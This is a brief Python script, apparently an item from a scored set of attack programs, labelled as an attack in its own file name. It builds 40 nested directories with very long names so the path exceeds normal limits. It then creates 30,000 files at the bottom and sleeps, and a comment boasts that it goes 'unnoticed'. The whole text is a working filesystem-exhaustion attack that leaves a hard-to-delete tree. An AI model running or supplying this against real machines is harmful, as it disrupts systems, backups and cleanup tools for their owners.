# Thirty thousand files where the path is longer than a path can be.
# points: 0
# base: untrained
import os
import time

here, name = os.getcwd(), "mp09_attack" + "x" * 150
for _ in range(40):
    os.mkdir(name)
    os.chdir(name)
for i in range(30000):
    os.mknod(str(i))
os.chdir(here)
time.sleep(10)  # unnoticed, it goes on
